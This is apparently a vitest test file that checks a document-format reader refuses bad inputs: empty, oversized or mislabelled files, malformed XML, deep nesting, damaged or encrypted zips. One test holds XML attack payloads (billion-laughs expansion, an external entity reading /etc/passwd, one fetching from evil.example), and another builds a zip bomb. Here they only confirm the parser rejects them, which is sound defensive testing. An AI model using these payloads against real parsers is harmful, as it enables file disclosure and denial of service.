import { describe, expect, it, vi } from 'vitest';
import { checkSize, LIMITS } from '../../../src/core/formats/limits.ts';
import type { FormatId } from '../../../src/core/formats/reading.ts';
import { docxOf, epubOf, readOne, refusalOf, utf8, zipOf } from './fixtures.ts';

// Large inputs, on machines that have other things to do.
vi.setConfig({ testTimeout: 60_000 });

const bytes = (...values: (number | string)[]) =>
  Uint8Array.from(values.flatMap((value) => (typeof value === 'number' ? [value] : [...utf8(value)])));
const EPUB = epubOf({ 'a.xhtml': '<p>字</p>' });

describe('a file that cannot be read is refused by what and where', () => {
  it.each(['a.txt', 'a.md', 'a.html', 'a.epub', 'a.docx', 'a.tmx', 'a.xlf', 'a.csv', 'a.srt', 'a'])(
    'zero bytes as %s',
    async (name) =>
      expect(await refusalOf(new Uint8Array(), name)).toMatchObject({
        code: 'fileEmpty',
        places: [{ file: name }],
      }),
  );

  it('too large, before it is loaded', async () => {
    expect(() => checkSize(200_000_000, 'a.epub')).toThrow('a.epub: fileTooLarge (191, 128)');
    expect(await refusalOf(new Uint8Array(LIMITS.text + 1).fill(65), 'a.txt')).toMatchObject({
      code: 'fileTooLarge',
    });
  });

  it.each([
    ['a.epub', bytes('%PDF-1.7'), 'epub', 'pdf'],
    ['a.txt', bytes(0x89, 'PNG\r\n'), 'txt', 'png'],
    ['a.txt', EPUB, 'txt', 'epub'],
    ['a.docx', EPUB, 'docx', 'epub'],
    ['a.epub', docxOf(''), 'epub', 'docx'],
    ['a.epub', zipOf({ 'a.txt': 'x' }), 'epub', 'zip'],
    ['a.docx', zipOf({ 'xl/workbook.xml': '<x/>' }), 'docx', 'xlsx'],
    ['a.txt', utf8('<?xml version="1.0"?>\n<!-- x -->\n<tmx version="1.4"/>'), 'txt', 'tmx'],
    ['a.tmx', utf8('<xliff version="1.2"/>'), 'tmx', 'xliff'],
    ['a.tmx', utf8('just text'), 'tmx', 'text'],
    ['a.tmx', utf8('<martif type="TBX"/>'), 'tmx', 'tbx'],
    ['a.html', utf8('WEBVTT\n\n'), 'html', 'vtt'],
    ['a.csv', utf8('<!DOCTYPE html><p>x'), 'csv', 'html'],
    ['a.srt', utf8('# Heading'), 'srt', 'text'],
  ])('another kind: %s', async (name, content, claimed, found) => {
    expect(await refusalOf(content, name)).toEqual({
      code: 'wrongKind',
      places: [{ file: name }],
      values: { claimed, found },
    });
  });

  it('a kind that is not read, and content that no kind has', async () => {
    expect(await refusalOf(bytes('%PDF-1.7'), 'a.pdf')).toMatchObject({
      code: 'kindUnsupported',
      values: { kind: 'pdf' },
    });
    const noise = Uint8Array.from({ length: 5000 }, (_, n) => (n * n * 7919 + 3 * n) & 0x1f);
    expect(await refusalOf(noise, 'a.txt')).toMatchObject({ code: 'fileBinary' });
  });

  it('read as what the caller says, whatever the name', async () => {
    const reading = await readOne(utf8('<p>字'), 'a.tmx', { format: 'text' });
    expect(reading.blocks[0]!.segment.text).toBe('<p>字');
  });

  it('XML that is not well-formed, with its line', async () => {
    expect(await refusalOf(utf8('<tmx>\n<body>\n<tu></tuv>\n</body></tmx>'), 'a.tmx')).toMatchObject({
      code: 'xmlMalformed',
      places: [{ file: 'a.tmx', line: 3 }],
    });
    expect(await refusalOf(utf8('<tmx>\n<body><tu><tuv xml:lang="zh"><seg>字'), 'a.tmx')).toMatchObject({
      code: 'xmlMalformed',
    });
    expect(await refusalOf(utf8('<tmx><body>&nbsp;</body></tmx>'), 'a.tmx')).toMatchObject({
      code: 'xmlMalformed',
    });
    expect(await refusalOf(docxOf('<w:p>'), 'a.docx')).toMatchObject({
      code: 'xmlMalformed',
      places: [{ file: 'a.docx', entry: 'word/document.xml', line: 1 }],
    });
  });

  it('entities: a billion laughs, and files of the machine', async () => {
    const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join(
      '',
    );
    for (const doctype of [
      `<!DOCTYPE tmx [<!ENTITY l0 "ha">${laughs}]>`,
      '<!DOCTYPE tmx [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE tmx [<!ENTITY % l9 SYSTEM "http://evil.example/"> %l9;]>',
    ]) {
      const text = `<?xml version="1.0"?>${doctype}<tmx><body><tu><tuv xml:lang="zh"><seg>&l9;</seg></tuv></tu></body></tmx>`;
      expect(await refusalOf(utf8(text), 'a.tmx')).toMatchObject({
        code: 'xmlEntity',
        places: [{ line: 1 }],
      });
    }
  });

  it.each<[FormatId, string, string]>([
    ['tmx', '<tmx><body><tu>', '<a>'],
    ['html', '<p>', '<div>'],
    ['html', '<p>', '<b><i>'],
    ['markdown', '', '> '],
    ['markdown', '', '- '],
  ])('%s nested without end', async (format, start, unit) => {
    const problem = await refusalOf(utf8(start + unit.repeat(100_000)), 'a', { format });
    expect(problem.code).toBe('nestingTooDeep');
  });

  it('zips: cut, bombs, too many, wrong sums, passwords', async () => {
    expect(await refusalOf(EPUB.subarray(0, EPUB.length - 30), 'a.epub')).toMatchObject({
      code: 'zipBroken',
    });
    expect(await refusalOf(EPUB.subarray(0, 100), 'a.epub')).toMatchObject({ code: 'zipBroken' });

    const bomb = docxOf('', { 'word/styles.xml': ' '.repeat(2_000_000) });
    expect(await refusalOf(bomb, 'a.docx')).toMatchObject({
      code: 'zipBomb',
      places: [{ entry: 'word/styles.xml' }],
    });

    const many = EPUB.slice();
    new DataView(many.buffer).setUint16(many.length - 22 + 10, LIMITS.entries + 1, true);
    expect(await refusalOf(many, 'a.epub')).toMatchObject({ code: 'zipTooManyEntries' });

    const directory = (content: Uint8Array) => {
      const at = content.findLastIndex(
        (_, n) => content[n] === 0x50 && content[n + 1] === 0x4b && content[n + 2] === 5,
      );
      const start = new DataView(content.buffer, content.byteOffset).getUint32(at + 16, true);
      // Of the second entry: the first is `mimetype` or the types.
      return content.findIndex(
        (_, n) => n > start && content[n] === 0x50 && content[n + 1] === 0x4b && content[n + 2] === 1,
      );
    };
    const changed = (offset: number, value: number) => {
      const copy = EPUB.slice();
      copy[directory(copy) + offset] = value;
      return copy;
    };
    // A size that lies, a sum that is wrong, the mark of encryption, an unknown method.
    const place = [{ file: 'a.epub', entry: 'META-INF/container.xml' }];
    expect(await refusalOf(changed(24, 3), 'a.epub')).toMatchObject({ code: 'zipBroken', places: place });
    expect(await refusalOf(changed(16, EPUB[directory(EPUB) + 16]! ^ 1), 'a.epub')).toMatchObject({
      code: 'zipBroken',
    });
    expect(await refusalOf(changed(8, 1), 'a.epub')).toMatchObject({
      code: 'passwordProtected',
      places: place,
    });
    expect(await refusalOf(changed(10, 12), 'a.epub')).toMatchObject({ code: 'zipUnsupported' });
  });

  it('more rows than a text can have', async () => {
    const rows = utf8('你,a\n'.repeat(LIMITS.blocks + 1));
    expect(await refusalOf(rows, 'a.csv')).toMatchObject({
      code: 'tooManyBlocks',
      places: [{ file: 'a.csv' }],
    });
  });

  it('nothing in it', async () => {
    expect(await refusalOf(utf8(' \n\n '), 'a.txt')).toMatchObject({ code: 'nothingToRead' });
    expect(await refusalOf(utf8('<tmx><header/><body/></tmx>'), 'a.tmx')).toMatchObject({
      code: 'nothingToRead',
    });
    expect(await refusalOf(utf8('<html></html>'), 'a.html')).toMatchObject({ code: 'nothingToRead' });
    expect(await refusalOf(docxOf(''), 'a.docx')).toMatchObject({ code: 'nothingToRead' });
    expect(await refusalOf(utf8('WEBVTT\n'), 'a.vtt')).toMatchObject({ code: 'nothingToRead' });
  });
});
